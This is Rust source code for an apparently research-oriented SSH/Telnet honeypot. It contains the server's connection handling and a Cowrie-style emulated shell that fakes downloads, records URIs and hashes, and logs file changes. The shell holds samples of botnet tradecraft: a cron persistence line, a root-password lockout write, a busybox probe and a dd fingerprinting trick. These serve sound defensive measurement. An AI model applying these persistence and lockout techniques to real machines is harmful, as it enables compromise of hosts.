        let seq = Arc::new(AtomicU64::new(0));
        let workers = cfg.workers.max(1);

        let mut senders: Vec<Sender<Admitted>> = Vec::with_capacity(workers);
        let mut receivers: Vec<Receiver<Admitted>> = Vec::with_capacity(workers);
        for _ in 0..workers {
            let (tx, rx) = std::sync::mpsc::channel();
            senders.push(tx);
            receivers.push(rx);
        }

        let mut addrs = ListenAddrs::default();
        let mut accept_threads = Vec::new();
        for (listener, proto) in listeners {
            let local = listener.local_addr().map_err(|e| ServeError::Bind {
                addr: "<bound>".into(),
                source: e,
            })?;
            match proto {
                Proto::Ssh => addrs.ssh = Some(local),
                Proto::Telnet => addrs.telnet = Some(local),
            }
            let senders = senders.clone();
            let stats = Arc::clone(&stats);
            let gate = Arc::clone(&gate);
            let shutdown = Arc::clone(&shutdown);
            let seq = Arc::clone(&seq);
            accept_threads.push(
                std::thread::Builder::new()
                    .name(format!("accept-{proto:?}").to_lowercase())
                    .spawn(move || {
                        accept_loop(listener, proto, &senders, &stats, &gate, &shutdown, &seq)
                    })
                    .expect("spawn accept thread"),
            );
        }
        drop(senders); // workers exit once accept threads hang up

        let sensor = SensorIdentity {
            honeypot_id: cfg.honeypot_id,
            honeypot_ip: cfg.honeypot_ip,
        };
        let mut worker_threads = Vec::new();
        for (i, rx) in receivers.into_iter().enumerate() {
            let collector = Arc::clone(&collector);
            let stats = Arc::clone(&stats);
            let gate = Arc::clone(&gate);
            let shutdown = Arc::clone(&shutdown);
            let remote = Arc::clone(&remote);
            let idle = cfg.idle_timeout;
            let session = cfg.session_timeout;
            let drain = cfg.drain_timeout;
            worker_threads.push(
                std::thread::Builder::new()
                    .name(format!("shard-{i}"))
                    .spawn(move || {
                        shard_loop(
                            rx, &remote, &collector, &stats, &gate, &shutdown, sensor, idle,
                            session, drain,
                        )
                    })
                    .expect("spawn shard"),
            );
        }

        let stats_thread = cfg.stats_interval.map(|interval| {
            let stats = Arc::clone(&stats);
            let shutdown = Arc::clone(&shutdown);
            std::thread::Builder::new()
                .name("serve-stats".into())
                .spawn(move || stats_loop(&stats, &shutdown, interval))
                .expect("spawn stats thread")
        });

        Ok(ServerHandle {
            addrs,
            stats,
            gate,
            shutdown,
            collector: Some(collector),
            accept_threads,
            worker_threads,
            stats_thread,
        })
    }
}

/// Bound listener addresses (with ephemeral ports resolved).
#[derive(Debug, Clone, Copy, Default)]
pub struct ListenAddrs {
    /// SSH listener, if enabled.
    pub ssh: Option<SocketAddr>,
    /// Telnet listener, if enabled.
    pub telnet: Option<SocketAddr>,
}

/// Final accounting returned by [`ServerHandle::join`].
#[derive(Debug, Clone)]
pub struct ServeReport {
    /// Serving counters at the end of the run.
    pub snapshot: StatsSnapshot,
    /// Collector fate counters (accepted/retried/dropped/quarantined).
    pub ingest: IngestStats,
    /// Records that failed validation, with no store to hold them.
    pub quarantined: usize,
}

/// A running server: addresses, live stats, and the shutdown lever.
pub struct ServerHandle {
    addrs: ListenAddrs,
    stats: Arc<ServeStats>,
    gate: Arc<Gate>,
    shutdown: Arc<AtomicBool>,
    collector: Option<Arc<Collector>>,
    accept_threads: Vec<JoinHandle<()>>,
    worker_threads: Vec<JoinHandle<()>>,
    stats_thread: Option<JoinHandle<()>>,
}

impl ServerHandle {
    /// Bound listener addresses.
    pub fn addrs(&self) -> ListenAddrs {
        self.addrs
    }

    /// Point-in-time serving counters.
    pub fn stats(&self) -> StatsSnapshot {
        self.stats.snapshot()
    }

    /// Connections currently admitted.
    pub fn active(&self) -> usize {
        self.gate.active()
    }

    /// Starts graceful shutdown: accept loops stop, shards drain.
    pub fn trigger_shutdown(&self) {
        self.shutdown.store(true, Ordering::Relaxed);
    }

    /// Whether shutdown has been triggered.
    pub fn shutting_down(&self) -> bool {
        self.shutdown.load(Ordering::Relaxed)
    }

    /// Triggers shutdown (idempotent), waits for every thread, seals the
    /// store, and returns the final accounting.
    pub fn join(mut self) -> Result<ServeReport, ServeError> {
        self.trigger_shutdown();
        for t in self.accept_threads.drain(..) {
            let _ = t.join();
        }
        for t in self.worker_threads.drain(..) {
            let _ = t.join();
        }
        if let Some(t) = self.stats_thread.take() {
            let _ = t.join();
        }
        let collector = self.collector.take().expect("join called once");
        let collector = Collector::try_from_arc(collector).map_err(|e| ServeError::Collector {
            message: e.to_string(),
        })?;
        let (ingest, quarantine) = collector
            .into_sink_parts()
            .map_err(|e| map_collector_error(&e))?;
        Ok(ServeReport {
            snapshot: self.stats.snapshot(),
            ingest,
            quarantined: quarantine.len(),
        })
    }
}

fn map_collector_error(e: &CollectorError) -> ServeError {
    match e {
        CollectorError::Sink { message } => ServeError::Store {
            message: message.clone(),
        },
        other => ServeError::Collector {
            message: other.to_string(),
        },
    }
}

/// Accepts until shutdown, shedding over-limit connections at the door.
fn accept_loop(
    listener: TcpListener,
    proto: Proto,
    senders: &[Sender<Admitted>],
    stats: &ServeStats,
    gate: &Gate,
    shutdown: &AtomicBool,
    seq: &AtomicU64,
) {
    while !shutdown.load(Ordering::Relaxed) {
        let mut accepted_any = false;
        // Drain the backlog before sleeping: under an accept storm the
        // backlog (typically 128) fills in milliseconds.
        loop {
            match listener.accept() {
                Ok((stream, peer)) => {
                    accepted_any = true;
                    stats.accepted.fetch_add(1, Ordering::Relaxed);
                    let client_ip = match peer.ip() {
                        IpAddr::V4(v4) => {
                            let o = v4.octets();
                            netsim::Ipv4Addr::from_octets(o[0], o[1], o[2], o[3])
                        }
                        // The record schema is IPv4-only; fold v6 peers
                        // (loopback ::1 in practice) into a reserved v4.
                        IpAddr::V6(_) => netsim::Ipv4Addr::from_octets(0, 0, 0, 1),
                    };
                    match gate.try_admit(client_ip) {
                        Admission::OverCapacity => {
                            stats.shed_capacity.fetch_add(1, Ordering::Relaxed);
                            drop(stream); // shed: close before any protocol state exists
                            continue;
                        }
                        Admission::OverPerIpLimit => {
                            stats.shed_per_ip.fetch_add(1, Ordering::Relaxed);
                            drop(stream);
                            continue;
                        }
                        Admission::Admitted => {}
                    }
                    if stream.set_nonblocking(true).is_err() {
                        gate.release(client_ip);
                        continue;
                    }
                    let _ = stream.set_nodelay(true);
                    let n = seq.fetch_add(1, Ordering::Relaxed);
                    let admitted = Admitted {
                        stream,
                        client_ip,
                        client_port: peer.port(),
                        proto,
                        start_unix: now_unix(),
                        seq: n,
                    };
                    let shard = (n as usize) % senders.len();
                    if senders[shard].send(admitted).is_err() {
                        gate.release(client_ip); // shard is gone: shutting down
                        return;
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(_) => break, // transient accept error; retry next tick
            }
        }
        if !accepted_any {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    // Dropping the listener closes the socket: new connects are refused
    // immediately rather than parked in the backlog during the drain.
}

/// One worker shard: owns its connections, polls them without blocking.
#[allow(clippy::too_many_arguments)]
fn shard_loop(
    rx: Receiver<Admitted>,
    remote: &SharedStore,
    collector: &Collector,
    stats: &ServeStats,
    gate: &Gate,
    shutdown: &AtomicBool,
    sensor: SensorIdentity,
    idle_timeout: Duration,
    session_timeout: Duration,
    drain_timeout: Duration,
) {
    let remote_ref: &dyn honeypot::shell::RemoteStore = &**remote;
    let mut conns: Vec<Conn<'_>> = Vec::new();
    let mut intake_open = true;
    let mut drain_started: Option<Instant> = None;

    loop {
        // Intake: move admitted sockets into the shard.
        while intake_open {
            match rx.try_recv() {
                Ok(a) => {
                    stats.active.fetch_add(1, Ordering::Relaxed);
                    let handler = LiveHandler::new(AuthPolicy::default(), remote_ref);
                    let conn = match a.proto {
                        Proto::Ssh => Conn::ssh(
                            a.stream,
                            a.client_ip,
                            a.client_port,
                            handler,
                            a.start_unix,
                            a.seq,
                        ),
                        Proto::Telnet => Conn::telnet(
                            a.stream,
                            a.client_ip,
                            a.client_port,
                            handler,
                            a.start_unix,
                        ),
                    };
                    conns.push(conn);
                }
                Err(TryRecvError::Empty) => break,
                Err(TryRecvError::Disconnected) => {
                    intake_open = false;
                }
            }
        }

        // Drain policy: once shutdown is triggered, keep pumping in-flight
        // sessions for at most `drain_timeout`, then force-close the rest.
        let draining = shutdown.load(Ordering::Relaxed);
        if draining && drain_started.is_none() {
            drain_started = Some(Instant::now());
        }
        let force_close = matches!(drain_started, Some(t0) if t0.elapsed() >= drain_timeout);

        let now = Instant::now();
        let mut i = 0;
        while i < conns.len() {
            if force_close {
                conns[i].abort();
            }
            let finished = force_close || conns[i].pump(now, idle_timeout, session_timeout, stats);
            if finished {
                let conn = conns.swap_remove(i);
                let ip = release_and_record(conn, sensor, collector, stats, gate);
                let _ = ip;
            } else {
                i += 1;
            }
        }

        if conns.is_empty() {
            // Exit once the accept side has hung up (it drops its senders
            // when it observes shutdown, disconnecting the channel) —
            // late-admitted sockets arrive through the intake loop above
            // first, so no gate slot is ever stranded.
            if !intake_open {
                return;
            }
            std::thread::sleep(Duration::from_millis(1));
        } else {
            // Tiny yield between poll rounds; the pump loop itself runs
            // until it stops making progress.
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}

/// Finalizes one connection: record, ingest, release admission.
fn release_and_record(
    conn: Conn<'_>,
    sensor: SensorIdentity,
    collector: &Collector,
    stats: &ServeStats,
    gate: &Gate,
) -> netsim::Ipv4Addr {
    let ip = conn.client_ip();
    let record = conn.finish(sensor, stats);
    collector.ingest(record);
    gate.release(ip);
    stats.active.fetch_sub(1, Ordering::Relaxed);
    ip
}

/// Periodic stats logger; exits when shutdown is triggered.
fn stats_loop(stats: &ServeStats, shutdown: &AtomicBool, interval: Duration) {
    let mut last = Instant::now();
    while !shutdown.load(Ordering::Relaxed) {
        std::thread::sleep(Duration::from_millis(50));
        if last.elapsed() >= interval {
            last = Instant::now();
            eprintln!("[serve] {}", stats.snapshot().render());
        }
    }
}
