//! The emulated Unix shell (paper §3.2).
//!
//! After a successful login the client gets a shell that emulates common
//! Unix commands ("known") and merely records anything else ("unknown").
//! The emulation level mirrors Cowrie where the paper's findings depend on
//! it:
//!
//! * `wget`/`curl`/`tftp`/`ftpget` actually "download": content comes from
//!   a [`RemoteStore`] (the simulated malware-hosting ecosystem); dropped
//!   files are hashed.
//! * `echo … > file` / `>> file` creates/extends files (how `mdrfckr`
//!   plants its key), and the *new* content hash is recorded.
//! * `passwd`/`chpasswd` and `crontab` edits surface as file modifications
//!   (shadow/crontab), making them state-changing.
//! * `scp`/`rsync`/`sftp` are **not** emulated — they are recorded unknown
//!   and transfer nothing, producing Fig. 4b's "file missing" execs.
//! * `/bin/busybox APPLET` runs known applets; an unknown applet (the
//!   `bbox_*` bots' 5-char probe) answers `applet not found`.

use crate::record::{FileEvent, FileOp};
use crate::vfs::Vfs;

/// Source of remote file content for download commands.
///
/// The botnet crate implements this over its malware-storage ecosystem;
/// tests use closures/maps.
pub trait RemoteStore {
    /// Returns the content served at `uri`, or `None` when the dropper is
    /// unreachable or the path is dead.
    fn fetch(&self, uri: &str) -> Option<Vec<u8>>;
}

/// A store with nothing in it.
pub struct NullStore;

impl RemoteStore for NullStore {
    fn fetch(&self, _uri: &str) -> Option<Vec<u8>> {
        None
    }
}

impl<F: Fn(&str) -> Option<Vec<u8>>> RemoteStore for F {
    fn fetch(&self, uri: &str) -> Option<Vec<u8>> {
        self(uri)
    }
}

/// Result of executing one input line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CmdOutcome {
    /// Emulated terminal output.
    pub output: String,
    /// Whether *every* simple command on the line was emulated.
    pub known: bool,
}

/// The per-session shell: owns the VFS and accumulates observations.
pub struct Shell<'s> {
    vfs: Vfs,
    store: &'s dyn RemoteStore,
    uris: Vec<String>,
    file_events: Vec<FileEvent>,
    root_password_changed: bool,
    hostname: String,
}

impl<'s> Shell<'s> {
    /// A fresh shell over a fresh VFS.
    pub fn new(store: &'s dyn RemoteStore) -> Self {
        Self {
            vfs: Vfs::new(),
            store,
            uris: Vec::new(),
            file_events: Vec::new(),
            root_password_changed: false,
            hostname: "svr04".to_string(),
        }
    }

    /// URIs observed so far, in order.
    pub fn uris(&self) -> &[String] {
        &self.uris
    }

    /// File events observed so far, in order.
    pub fn file_events(&self) -> &[FileEvent] {
        &self.file_events
    }

    /// Drains accumulated observations (used when building the record).
    pub fn take_observations(&mut self) -> (Vec<String>, Vec<FileEvent>) {
        (
            std::mem::take(&mut self.uris),
            std::mem::take(&mut self.file_events),
        )
    }

    /// Whether a `passwd`/`chpasswd` ran (the mdrfckr lockout).
    pub fn root_password_changed(&self) -> bool {
        self.root_password_changed
    }

    /// Read access to the VFS (for tests and the wire adapter).
    pub fn vfs(&self) -> &Vfs {
        &self.vfs
    }

    /// Executes one input line (possibly containing `;`, `&&`, `||`, `|`).
    pub fn exec_line(&mut self, line: &str) -> CmdOutcome {
        let mut output = String::new();
        let mut known = true;
        let segments = split_segments(line);
        let mut i = 0;
        while i < segments.len() {
            // Detect `echo X | chpasswd`-style pipelines we emulate whole.
            let seg = segments[i].trim();
            if seg.is_empty() {
                i += 1;
                continue;
            }
            let (out, ok) = self.exec_simple(seg);
            if !out.is_empty() {
                output.push_str(&out);
                if !out.ends_with('\n') {
                    output.push('\n');
                }
            }
            known &= ok;
            i += 1;
        }
        CmdOutcome { output, known }
    }

    /// Executes one simple command. Returns (output, known).
    fn exec_simple(&mut self, cmd: &str) -> (String, bool) {
        // Record URIs appearing anywhere in the command (paper §3.2).
        for uri in extract_uris(cmd) {
            self.uris.push(uri);
        }
        let (argv, redirect) = tokenize(cmd);
        if argv.is_empty() {
            return (String::new(), true);
        }
        let name = argv[0].as_str();
        let args: Vec<&str> = argv[1..].iter().map(String::as_str).collect();
        let (out, known) = match name {
            "cd" => {
                let target = args.first().copied().unwrap_or("/root");
                if self.vfs.chdir(target) {
                    (String::new(), true)
                } else {
                    (format!("bash: cd: {target}: No such file or directory"), true)
                }
            }
            "mkdir" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    self.vfs.mkdir(a);
                }
                (String::new(), true)
            }
            "rm" => self.cmd_rm(&args),
            "echo" => self.cmd_echo(&args, redirect.as_ref()),
            "cat" => self.cmd_cat(&args, redirect.as_ref()),
            "wget" => self.cmd_wget(&args),
            "curl" => self.cmd_curl(&args, redirect.as_ref()),
            "tftp" => self.cmd_tftp(&args),
            "ftpget" => self.cmd_ftpget(&args),
            "chmod" => {
                for a in args.iter().filter(|a| !a.starts_with('-') && !a.starts_with('+') && !is_mode(a)) {
                    self.vfs.set_executable(a);
                }
                (String::new(), true)
            }
            "uname" => (self.cmd_uname(&args), true),
            "nproc" => ("4".to_string(), true),
            "id" => ("uid=0(root) gid=0(root) groups=0(root)".to_string(), true),
            "whoami" => ("root".to_string(), true),
            "hostname" => (self.hostname.clone(), true),
            "ls" => (self.vfs.list(args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or(".")).join("  "), true),
            "pwd" => (self.vfs.cwd().to_string(), true),
            "ps" => ("  PID TTY          TIME CMD\n    1 ?        00:00:02 init\n  842 ?        00:00:00 sshd".to_string(), true),
            "free" => ("              total        used        free\nMem:        1024000      312000      712000".to_string(), true),
            "lscpu" => ("Architecture:        x86_64\nCPU(s):              4\nModel name:          Intel(R) Celeron(R) CPU J1900 @ 1.99GHz".to_string(), true),
            "which" => {
                let t = args.first().copied().unwrap_or("");
                if is_known_binary(t) { (format!("/usr/bin/{t}"), true) } else { (String::new(), true) }
            }
            "history" => ("    1  uname -a".to_string(), true),
            "passwd" | "chpasswd" => self.cmd_passwd(),
            "crontab" => self.cmd_crontab(&args),
            "touch" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    let (p, h, existed) = self.vfs.append(a, b"");
                    let op = if existed { continue } else { FileOp::Created { sha256: h } };
                    self.file_events.push(FileEvent { path: p, op, source_uri: None });
                }
                (String::new(), true)
            }
            "mv" | "cp" => self.cmd_mv_cp(name, &args),
            "dd" => self.cmd_dd(&args),
            "head" | "tail" | "grep" | "awk" | "wc" | "sort" | "uniq" | "tr" | "cut" | "sed" => {
                (String::new(), true)
            }
            "export" | "ulimit" | "set" | "unset" | "alias" | "sync" | "sleep" | "exit"
            | "logout" | "yes" | "true" | "false" | "kill" | "pkill" | "killall" | "nohup"
            | "env" | "w" | "last" | "uptime" | "top" | "df" | "du" | "mount" | "lspci"
            | "ifconfig" | "netstat" | "ssh-keygen" | "base64" | "openssl" | "perl"
            | "python" | "md5sum" | "sha256sum" | "chattr" | "systemctl" | "service"
            | "iptables" | "apt" | "apt-get" | "yum" | "history-c" => (String::new(), true),
            "busybox" | "/bin/busybox" => self.cmd_busybox(&args),
            "sh" | "bash" | "/bin/sh" | "/bin/bash" | "ash" => self.cmd_sh(&args),
            // Not emulated by Cowrie: recorded unknown. scp/rsync/sftp are
            // deliberately here (paper §5: the honeypot cannot capture
            // files transferred this way).
            "scp" | "rsync" | "sftp" | "ftp" => (format!("bash: {name}: command not found"), false),
            _ => {
                if looks_like_path(name) {
                    self.exec_file(name)
                } else {
                    (format!("bash: {name}: command not found"), false)
                }
            }
        };
        (out, known)
    }

    fn cmd_rm(&mut self, args: &[&str]) -> (String, bool) {
        let recursive = args.iter().any(|a| a.starts_with('-') && a.contains('r'));
        for a in args.iter().filter(|a| !a.starts_with('-')) {
            if let Some(stripped) = a.strip_suffix("/*") {
                // `rm -rf dir/*`: empty the directory, keep it.
                let dir = stripped.to_string();
                for name in self.vfs.list(&dir) {
                    let child = format!("{}/{}", dir.trim_end_matches('/'), name);
                    if self.vfs.file_exists(&child) {
                        if let Some(p) = self.vfs.remove(&child) {
                            self.file_events.push(FileEvent {
                                path: p,
                                op: FileOp::Deleted,
                                source_uri: None,
                            });
                        }
                    } else if recursive {
                        for p in self.vfs.remove_tree(&child) {
                            self.file_events.push(FileEvent {
                                path: p,
                                op: FileOp::Deleted,
                                source_uri: None,
                            });
                        }
                    }
                }
            } else if recursive && self.vfs.dir_exists(a) {
                for p in self.vfs.remove_tree(a) {
                    self.file_events.push(FileEvent {
                        path: p,
                        op: FileOp::Deleted,
                        source_uri: None,
                    });
                }
            } else if let Some(p) = self.vfs.remove(a) {
                self.file_events.push(FileEvent {
                    path: p,
                    op: FileOp::Deleted,
                    source_uri: None,
                });
            }
        }
        (String::new(), true)
    }

    fn cmd_echo(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
        let interpret = args
            .first()
            .is_some_and(|a| *a == "-e" || *a == "-en" || *a == "-ne");
        let text_args: Vec<&str> = args
            .iter()
            .filter(|a| !(a.starts_with('-') && a.len() <= 3))
            .copied()
            .collect();
        let mut text = text_args.join(" ");
        if interpret {
            text = decode_escapes(&text);
        }
        match redirect {
            Some(r) => {
                let mut content = text.into_bytes();
                content.push(b'\n');
                let (p, h, existed) = if r.append {
                    self.vfs.append(&r.target, &content)
                } else {
                    self.vfs.write(&r.target, &content)
                };
                let op = if existed {
                    FileOp::Modified { sha256: h }
                } else {
                    FileOp::Created { sha256: h }
                };
                self.file_events.push(FileEvent {
                    path: p,
                    op,
                    source_uri: None,
                });
                (String::new(), true)
            }
            None => (text, true),
        }
    }

    fn cmd_cat(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
        let mut out = String::new();
        for a in args.iter().filter(|a| !a.starts_with('-')) {
            match self.vfs.read(a) {
                Some(content) => out.push_str(&String::from_utf8_lossy(content)),
                None => out.push_str(&format!("cat: {a}: No such file or directory\n")),
            }
        }
        if let Some(r) = redirect {
            let (p, h, existed) = if r.append {
                self.vfs.append(&r.target, out.as_bytes())
            } else {
                self.vfs.write(&r.target, out.as_bytes())
            };
            let op = if existed {
                FileOp::Modified { sha256: h }
            } else {
                FileOp::Created { sha256: h }
            };
            self.file_events.push(FileEvent {
                path: p,
                op,
                source_uri: None,
            });
            return (String::new(), true);
        }
        (out, true)
    }

    fn download(&mut self, uri: &str, dest: &str) -> (String, bool) {
        match self.store.fetch(uri) {
            Some(content) => {
                let (p, h, existed) = self.vfs.write(dest, &content);
                let op = if existed {
                    FileOp::Modified { sha256: h }
                } else {
                    FileOp::Created { sha256: h }
                };
                self.file_events.push(FileEvent {
                    path: p,
                    op,
                    source_uri: Some(uri.to_string()),
                });
                (format!("'{dest}' saved"), true)
            }
            None => {
                self.file_events.push(FileEvent {
                    path: self.vfs.resolve(dest),
                    op: FileOp::DownloadFailed,
                    source_uri: Some(uri.to_string()),
                });
                (
                    "Connecting... failed: Connection refused.".to_string(),
                    true,
                )
            }
        }
    }

    fn cmd_wget(&mut self, args: &[&str]) -> (String, bool) {
        let mut uri: Option<String> = None;
        let mut dest: Option<String> = None;
        let mut it = args.iter().peekable();
        while let Some(a) = it.next() {
            match *a {
                "-O" | "-o" => {
                    if let Some(d) = it.next() {
                        dest = Some((*d).to_string());
                    }
                }
                s if s.starts_with('-') => {}
                s => {
                    let u = normalize_uri(s);
                    uri = Some(u);
                }
            }
        }
        let Some(uri) = uri else {
            return ("wget: missing URL".to_string(), true);
        };
        let dest = dest.unwrap_or_else(|| basename_of_uri(&uri));
        self.download(&uri, &dest)
    }

    fn cmd_curl(&mut self, args: &[&str], redirect: Option<&Redirect>) -> (String, bool) {
        let mut uri: Option<String> = None;
        let mut dest: Option<String> = None;
        let mut remote_name = false;
        let mut it = args.iter().peekable();
        while let Some(a) = it.next() {
            match *a {
                "-o" => {
                    if let Some(d) = it.next() {
                        dest = Some((*d).to_string());
                    }
                }
                "-O" => remote_name = true,
                // Flags with a value we must skip.
                "-X" | "--cookie" | "--referer" | "--max-redirs" | "-H" | "-d" | "--data"
                | "-A" | "--user-agent" => {
                    it.next();
                }
                s if s.starts_with('-') => {}
                s => uri = Some(normalize_uri(s)),
            }
        }
        let Some(uri) = uri else {
            return ("curl: no URL specified".to_string(), true);
        };
        if remote_name && dest.is_none() {
            dest = Some(basename_of_uri(&uri));
        }
        if dest.is_none() {
            if let Some(r) = redirect {
                dest = Some(r.target.clone());
            }
        }
        match dest {
            Some(d) => self.download(&uri, &d),
            None => {
                // Plain curl writes the body to stdout — the curl_maxred
                // proxy abuse never touches the filesystem.
                match self.store.fetch(&uri) {
                    Some(body) => (String::from_utf8_lossy(&body).into_owned(), true),
                    None => ("curl: (7) Failed to connect".to_string(), true),
                }
            }
        }
    }

    fn cmd_tftp(&mut self, args: &[&str]) -> (String, bool) {
        // Forms: `tftp -g -r FILE HOST` and `tftp HOST -c get FILE`.
        let mut file: Option<&str> = None;
        let mut host: Option<&str> = None;
        let mut it = args.iter().peekable();
        while let Some(a) = it.next() {
            match *a {
                "-r" | "-l" => file = it.next().copied(),
                "-c" => {
                    // `-c get FILE`
                    if it.next().copied() == Some("get") {
                        file = it.next().copied();
                    }
                }
                "-g" | "-p" => {}
                s if s.starts_with('-') => {}
                s => {
                    if host.is_none() {
                        host = Some(s);
                    }
                }
            }
        }
        match (host, file) {
            (Some(h), Some(f)) => {
                let uri = format!("tftp://{h}/{f}");
                self.uris.push(uri.clone());
                self.download(&uri, f)
            }
            _ => ("tftp: usage error".to_string(), true),
        }
    }

    fn cmd_ftpget(&mut self, args: &[&str]) -> (String, bool) {
        // busybox ftpget [-u user -p pass] HOST LOCAL REMOTE
        let pos: Vec<&str> = {
            let mut out = Vec::new();
            let mut it = args.iter().peekable();
            while let Some(a) = it.next() {
                if *a == "-u" || *a == "-p" || *a == "-P" {
                    it.next();
                } else if !a.starts_with('-') {
                    out.push(*a);
                }
            }
            out
        };
        if pos.len() < 2 {
            return ("ftpget: usage error".to_string(), true);
        }
        let host = pos[0];
        let local = pos[1];
        let remote = pos.get(2).copied().unwrap_or(local);
        let uri = format!("ftp://{host}/{remote}");
        self.uris.push(uri.clone());
        self.download(&uri, local)
    }

    fn cmd_uname(&self, args: &[&str]) -> String {
        let all = format!(
            "Linux {} 3.10.0-957.el7.x86_64 #1 SMP x86_64 GNU/Linux",
            self.hostname
        );
        if args.is_empty() {
            return "Linux".to_string();
        }
        match args.join(" ").as_str() {
            "-a" => all,
            "-s -v -n -r -m" => format!(
                "Linux #1 SMP {} 3.10.0-957.el7.x86_64 x86_64",
                self.hostname
            ),
            "-s -v -n -r" => {
                format!("Linux #1 SMP {} 3.10.0-957.el7.x86_64", self.hostname)
            }
            "-s -n -r -i" => format!("Linux {} 3.10.0-957.el7.x86_64 x86_64", self.hostname),
            "-m" => "x86_64".to_string(),
            "-n" => self.hostname.clone(),
            "-r" => "3.10.0-957.el7.x86_64".to_string(),
            _ => all,
        }
    }

    fn cmd_passwd(&mut self) -> (String, bool) {
        self.root_password_changed = true;
        // Surface as a shadow-file modification so it counts as a state
        // change, as the paper treats the mdrfckr lockout.
        let (p, h, _) = self
            .vfs
            .write("/etc/shadow", b"root:$6$new$locked:19200:0:99999:7:::\n");
        self.file_events.push(FileEvent {
            path: p,
            op: FileOp::Modified { sha256: h },
            source_uri: None,
        });
        (String::new(), true)
    }

    fn cmd_crontab(&mut self, args: &[&str]) -> (String, bool) {
        if args.first() == Some(&"-l") {
            return ("no crontab for root".to_string(), true);
        }
        // Any install/edit writes the spool file.
        let (p, h, existed) = self
            .vfs
            .write("/var/spool/cron/root", b"* * * * * /tmp/.x/upd\n");
        let op = if existed {
            FileOp::Modified { sha256: h }
        } else {
            FileOp::Created { sha256: h }
        };
        self.file_events.push(FileEvent {
            path: p,
            op,
            source_uri: None,
        });
        (String::new(), true)
    }

    fn cmd_mv_cp(&mut self, name: &str, args: &[&str]) -> (String, bool) {
        let pos: Vec<&str> = args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .copied()
            .collect();
        if pos.len() < 2 {
            return (format!("{name}: missing operand"), true);
        }
        let (src, dst) = (pos[0], pos[1]);
        match self.vfs.read(src).map(<[u8]>::to_vec) {
            Some(content) => {
                let (p, h, existed) = self.vfs.write(dst, &content);
                let op = if existed {
                    FileOp::Modified { sha256: h }
                } else {
                    FileOp::Created { sha256: h }
                };
                self.file_events.push(FileEvent {
                    path: p,
                    op,
                    source_uri: None,
                });
                if name == "mv" {
                    if let Some(rp) = self.vfs.remove(src) {
                        self.file_events.push(FileEvent {
                            path: rp,
                            op: FileOp::Deleted,
                            source_uri: None,
                        });
                    }
                }
                (String::new(), true)
            }
            None => (
                format!("{name}: cannot stat '{src}': No such file or directory"),
                true,
            ),
        }
    }

    fn cmd_dd(&mut self, args: &[&str]) -> (String, bool) {
        // Bots use `dd if=/proc/self/exe bs=22 count=1` to fingerprint; an
        // `of=` target creates a file.
        let mut of: Option<&str> = None;
        let mut iff: Option<&str> = None;
        for a in args {
            if let Some(v) = a.strip_prefix("of=") {
                of = Some(v);
            } else if let Some(v) = a.strip_prefix("if=") {
                iff = Some(v);
            }
        }
        let content = iff
            .and_then(|p| self.vfs.read(p).map(<[u8]>::to_vec))
            .unwrap_or_else(|| b"\x7fELF".to_vec());
        if let Some(target) = of {
            let (p, h, existed) = self.vfs.write(target, &content);
            let op = if existed {
                FileOp::Modified { sha256: h }
            } else {
                FileOp::Created { sha256: h }
            };
            self.file_events.push(FileEvent {
                path: p,
                op,
                source_uri: None,
            });
            (String::new(), true)
        } else {
            (
                String::from_utf8_lossy(&content[..content.len().min(22)]).into_owned(),
                true,
            )
        }
    }

    fn cmd_busybox(&mut self, args: &[&str]) -> (String, bool) {
        let Some(applet) = args.first() else {
            return ("BusyBox v1.22.1 multi-call binary.".to_string(), true);
        };
        let lower = applet.to_lowercase();
        const APPLETS: &[&str] = &[
            "cat", "echo", "wget", "tftp", "ftpget", "rm", "cp", "mv", "chmod", "mkdir", "ps",
            "ls", "dd", "hostname", "ifconfig", "kill",
        ];
        if APPLETS.contains(&lower.as_str()) && *applet == lower {
            let rest: Vec<String> = args[1..].iter().map(|s| s.to_string()).collect();
            let rest_refs: Vec<&str> = rest.iter().map(String::as_str).collect();
            let joined = format!("{} {}", lower, rest_refs.join(" "));
            return self.exec_simple(joined.trim());
        }
        // The bbox probe: `/bin/busybox KDVJS` → applet not found.
        (format!("{applet}: applet not found"), true)
    }

    fn cmd_sh(&mut self, args: &[&str]) -> (String, bool) {
        // `sh -c "cmds"` executes inline; `sh FILE` executes a file.
        if args.first() == Some(&"-c") {
            if let Some(script) = args.get(1) {
                let out = self.exec_line(script);
                return (out.output, out.known);
            }
            return (String::new(), true);
        }
        match args.iter().find(|a| !a.starts_with('-')) {
            Some(file) => self.exec_file(file),
            None => (String::new(), true),
        }
    }

    /// A command tried to execute `path` (directly or via `sh file`).
    fn exec_file(&mut self, path: &str) -> (String, bool) {
        let resolved = self.vfs.resolve(path);
        let hash = self.vfs.hash_of(&resolved);
        let found = hash.is_some();
        self.file_events.push(FileEvent {
            path: resolved.clone(),
            op: FileOp::ExecAttempt { sha256: hash },
            source_uri: None,
        });
        if found {
            // Dropped malware "runs"; Cowrie prints nothing useful.
            (String::new(), true)
        } else {
            (format!("bash: {path}: No such file or directory"), true)
        }
    }
}

/// A parsed output redirection.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Redirect {
    target: String,
    append: bool,
}

/// Splits a command line at top-level `;`, `&&`, `||`, `|` (quote-aware).
fn split_segments(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = line.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                cur.push(c);
                if c == q {
                    quote = None;
                }
            }
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    cur.push(c);
                }
                ';' => {
                    out.push(std::mem::take(&mut cur));
                }
                '&' if chars.peek() == Some(&'&') => {
                    chars.next();
                    out.push(std::mem::take(&mut cur));
                }
                '|' => {
                    if chars.peek() == Some(&'|') {
                        chars.next();
                    }
                    out.push(std::mem::take(&mut cur));
                }
                _ => cur.push(c),
            },
        }
    }
    out.push(cur);
